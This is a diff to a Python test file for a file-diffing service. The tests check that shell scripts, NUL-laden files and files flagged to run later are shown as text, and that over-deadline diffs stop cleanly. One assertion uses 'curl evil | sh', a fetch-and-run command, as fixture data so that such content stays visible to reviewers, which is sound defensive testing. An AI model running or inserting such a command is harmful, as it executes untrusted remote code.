@@ -85,9 +85,42 @@ def test_a_file_that_is_not_utf8_is_shown_with_its_odd_bytes_escaped(tmp_path: P
     nuls = file_diff(str(root), str(ovdir), FileChange("nuls.sh", "created"), stat=False)
     assert not nuls.binary and nuls.diff.startswith("--- /dev/null\n+++ b/nuls.sh\n@@")
     assert "+curl evil | sh\n" in nuls.diff
+    # bash's own rule: no NUL in the first line, so bash would run it as a script.
     (ovdir / "image.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")
     image = file_diff(str(root), str(ovdir), FileChange("image.png", "created"), stat=False)
-    assert image.binary and image.diff == ""
+    assert not image.binary and "+\\x89PNG\r\n" in image.diff
+    (ovdir / "data.bin").write_bytes(b"\0\1\2\3" * 100)
+    data = file_diff(str(root), str(ovdir), FileChange("data.bin", "created"), stat=False)
+    assert data.binary
+    flagged = file_diff(str(root), str(ovdir), FileChange("data.bin", "created", runs_later=True),
+                        stat=False)
+    assert not flagged.binary  # something runs it later: its bytes are shown
     (ovdir / "tool").write_bytes(b"\x7fELF\x02\x01\x01\0" + b"\0" * 64)
     elf = file_diff(str(root), str(ovdir), FileChange("tool", "created"), stat=False)
     assert elf.binary
+
+
+def test_a_diff_past_its_deadline_names_the_file_and_stops(tmp_path: Path) -> None:
+    """Out of time, the file is named with the size and hash of what Tab would write, and
+    the diff's process is gone (it was killed, not left computing)."""
+    import hashlib
+    import time
+
+    import psutil
+
+    from coordinator.service.speculation.text_diff import unified_diff
+
+    root, ovdir = tmp_path / "root", tmp_path / "ov"
+    root.mkdir()
+    ovdir.mkdir()
+    (root / "d.txt").write_text("".join(f"v{i % 50}\n" for i in range(60_000)))
+    new = "".join(f"v{(i * 7) % 51}\n" for i in range(60_000)).encode()
+    (ovdir / "d.txt").write_bytes(new)
+    late = file_diff(str(root), str(ovdir), FileChange("d.txt", "modified"), stat=False,
+                     deadline=time.monotonic() - 1)
+    assert late.too_large and late.diff == ""
+    assert (late.size, late.sha256) == (len(new), hashlib.sha256(new).hexdigest())
+    assert unified_diff(b"a\n", b"b\n", "a/x", "b/x", time.monotonic() + 0.000001) is None
+    assert not [p for p in psutil.Process().children(recursive=True) if p.name() == "git"]
+    assert unified_diff(b"a\n", b"b\n", "a/x", "b/x", time.monotonic() + 10) == (
+        "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n")
